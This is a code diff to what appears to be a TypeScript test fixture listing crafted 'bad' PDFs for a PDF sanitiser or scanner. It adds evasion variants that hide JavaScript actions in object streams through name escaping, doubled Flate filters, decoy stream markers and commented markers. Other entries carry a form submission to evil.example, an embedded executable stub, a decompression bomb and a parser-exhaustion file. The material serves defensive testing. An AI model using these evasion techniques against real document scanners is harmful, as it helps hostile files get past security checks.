@@ -18,9 +18,11 @@ export function pdf({ objects = '', trailer = '', tail = '' }: PdfParts = {}): B
   return text(`${head}${page}${objects}trailer\n<< /Root 1 0 R ${trailer} >>\n%%EOF\n${tail}`)
 }
 
-const objectStream = (hidden: Buffer, filter = '/FlateDecode') =>
+const hiddenScript = '9 0 << /S /JavaScript /JS (app.alert(1)) >>'
+const objectStream = (hidden: Buffer, filter: string | null = '/FlateDecode', type = '/ObjStm') =>
   Buffer.concat([
-    text(`%PDF-1.7\n3 0 obj\n<< /Type /Page >>\nendobj\n4 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter ${filter} >>\nstream\n`),
+    text('%PDF-1.7\n3 0 obj\n<< /Type /Page >>\nendobj\n4 0 obj\n'),
+    text(`<< /Type ${type} /N 1 /First 4 ${filter === null ? '' : `/Filter ${filter}`} >>\nstream\n`),
     hidden,
     text('\nendstream\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n'),
   ])
@@ -93,7 +95,15 @@ export const badFiles: [name: string, content: Buffer][] = [
   ['form.pdf', action('/S /SubmitForm /F (https://evil.example)')],
   ['carrier.pdf', pdf({ objects: '9 0 obj\n<< /Type /EmbeddedFile >>\nstream\nMZ\nendstream\nendobj\n' })],
   ['xfa.pdf', action('/XFA 9 0 R')],
-  ['hidden.pdf', objectStream(deflateSync('9 0 << /S /JavaScript /JS (app.alert(1)) >>'))],
+  ['hidden.pdf', objectStream(deflateSync(hiddenScript))],
+  ['commented.pdf', pdf({ objects: '%stream\n9 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n%endstream\n' })],
+  ['renamed.pdf', objectStream(deflateSync(hiddenScript), '/FlateDecode', '/Obj#53tm')],
+  ['unpacked.pdf', objectStream(text(hiddenScript), null)],
+  ['twice.pdf', objectStream(deflateSync(deflateSync(hiddenScript)), '[/FlateDecode /FlateDecode]')],
+  ['filters.pdf', objectStream(deflateSync(deflateSync(hiddenScript)), '/FlateDecode /Filter [/FlateDecode /FlateDecode]')],
+  ['predicted.pdf', objectStream(deflateSync('odd'), '/FlateDecode /DecodeParms << /Predictor 12 >>')],
+  ['decoy.pdf', objectStream(deflateSync(hiddenScript), '/FlateDecode /X (stream\nendstream)')],
+  ['knotted.pdf', pdf({ objects: `9 0 obj\n${'/ObjStm '.repeat(1_000_000)}streamendstream` })],
   ['packed.pdf', objectStream(text('odd'), '/LZWDecode')],
   ['bomb.pdf', objectStream(deflateSync(Buffer.alloc(64 * 1024 * 1024)))],
   ['long.pdf', pdf({ objects: manyPages })],
